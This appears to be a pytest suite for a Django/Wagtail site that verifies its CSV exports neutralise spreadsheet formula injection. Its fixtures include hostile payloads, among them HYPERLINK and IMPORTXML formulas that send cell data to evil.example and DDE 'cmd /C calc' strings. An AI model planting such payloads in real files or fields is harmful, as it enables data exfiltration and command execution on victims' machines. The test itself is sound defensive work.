"""No cell of any CSV the site writes can start a spreadsheet formula, whichever column holds the hostile text."""
import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from wagtail.models import Locale

from cafes.models import CafePage, CafeReportPage, CountryPage, Organisation
from cafes.spreadsheet import FORMULA_STARTS, safe_cell
from ressources.choices import ResourceKind
from ressources.models import ResourcePage

from .factories import make_cafe

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("module_site_tree")]

# One per dangerous first character (OWASP): = + - @ TAB CR.
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "venue_name": "+cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
    "postcode": "@SUM(1+1)",
    "city": "\t=1+1",
    "region": "\r=1+1",
}
ORGANISER = "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"


def test_every_dangerous_first_character_is_neutralised_and_nothing_else():
    for start in FORMULA_STARTS:
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Lyon") == "Lyon"
    assert safe_cell("a=1") == "a=1"
    assert safe_cell(-3.5) == -3.5  # a negative coordinate is a number, not text
    assert safe_cell(None) is None


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_no_formula(rows):
    """Only numbers (a negative longitude) may start with a minus sign."""
    dangerous = [(n, cell) for n, row in enumerate(rows) for cell in row
                 if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert dangerous == []


def test_cafes_csv_neutralises_a_hostile_value_in_every_text_column(client):
    fr = Locale.objects.get(language_code="fr")
    organiser = Organisation.objects.create(name=ORGANISER, slug="org-hostile", locale=fr)
    cafe = make_cafe(organiser=organiser, **HOSTILE)
    rows = _rows(client.get("/data/cafes.csv?when=all"))
    _assert_no_formula(rows)
    header, *data = rows
    row = dict(zip(header, next(r for r in data if r[0] == str(cafe.pk)), strict=True))
    columns = {"title": "title", "venue": "venue_name", "address": "address", "postcode": "postcode", "city": "city", "region": "region"}
    for column, field in columns.items():
        assert row[column] == "'" + HOSTILE[field], column
    assert row["organiser"] == "'" + ORGANISER
    # The figures stay figures.
    assert float(row["latitude"]) > 0 and row["approximate"] == "0"


def test_cafes_csv_of_a_private_venue_still_neutralises_what_it_shows(client):
    cafe = make_cafe(approximate_location=True, **HOSTILE)
    rows = _rows(client.get("/data/cafes.csv?when=all"))
    _assert_no_formula(rows)
    header, *data = rows
    row = dict(zip(header, next(r for r in data if r[0] == str(cafe.pk)), strict=True))
    assert row["venue"] == "" and row["address"] == ""  # hidden, as on the page
    assert row["city"] == "'" + HOSTILE["city"]


@pytest.fixture
def hostile_synthesis(module_site_tree):
    """A country of its own whose capital, regions, themes and format titles are all hostile."""
    index = module_site_tree.cafes["fr"]
    country = CountryPage(title="Formulie", slug="formulie", country_code="QF", capital="-Capitale+1")
    index.add_child(instance=country)
    country.save_revision().publish()
    held = datetime(2025, 3, 4, 18, tzinfo=ZoneInfo("Europe/Paris"))
    cafe = CafePage(title="Café hostile", slug="cafe-hostile", city="-Capitale+1", region="=REGION()", start=held,
                    end=held.replace(hour=20))
    country.add_child(instance=cafe)
    cafe.save_revision().publish()
    resources = module_site_tree.resources["fr"]
    format_page = ResourcePage(title="+FORMAT()", slug="format-hostile", kind=ResourceKind.FORMAT, summary="…")
    resources.add_child(instance=format_page)
    format_page.save_revision().publish()
    report = CafeReportPage(title="CR hostile", slug="cr-hostile", date=date(2025, 3, 4), participants=9, summary="…")
    report.themes.set(["@theme", "\tonglet", "\rretour"])
    if hasattr(report, "format_id"):
        report.format_id = format_page.pk
    cafe.add_child(instance=report)
    report.save_revision().publish()
    return country


def test_synthesis_csv_neutralises_region_theme_format_and_capital(client, hostile_synthesis):
    rows = _rows(client.get("/data/synthese.csv?year=2025&country=QF"))
    _assert_no_formula(rows)
    cells = {(row[0], row[1]): row[2] for row in rows}
    assert cells[("total", "capital")] == "'-Capitale+1"
    assert ("region", "'=REGION()") in cells
    assert {("theme", "'@theme"), ("theme", "'\tonglet"), ("theme", "'\rretour")} <= set(cells)
    if hasattr(CafeReportPage, "format"):
        assert ("format", "'+FORMAT()") in cells
